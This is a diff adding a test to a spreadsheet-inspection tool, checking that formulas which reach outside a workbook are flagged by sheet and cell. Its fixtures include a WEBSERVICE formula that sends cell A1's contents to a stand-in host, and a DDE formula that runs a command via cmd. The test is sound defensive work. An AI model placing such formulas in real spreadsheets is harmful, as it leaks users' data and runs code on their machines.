@@ -158,6 +158,24 @@ def test_hidden_sheets_rows_columns_comments_and_numbers_of_a_workbook_are_told(
         assert expected in text
 
 
+@pytest.mark.parametrize(
+    ("formula", "reaches"),
+    [
+        ('=WEBSERVICE("http://a.example/?q="&A1)', True),
+        ("=cmd|'/c calc'!A0", True),
+        ('=IMAGE("http://a.example/x.png")', True),
+        ("=SUM(A1:A3)", False),
+        ('=A1&"|"&A2', False),
+        ('=HYPERLINK("http://a.example")', False),
+    ],
+)
+def test_a_formula_that_reaches_out_is_told_by_its_cell(tmp_path, formula, reaches):
+    out = BytesIO()
+    with xlsxwriter.Workbook(out) as book:
+        book.add_worksheet("汇总").write_formula("B2", formula)
+    assert ("工作表“汇总”B2的公式" in told(tmp_path, "表.xlsx", out.getvalue())) is reaches
+
+
 def test_a_plain_workbook_holds_nothing_unseen(tmp_path):
     stream = BytesIO()
     with xlsxwriter.Workbook(stream) as book:
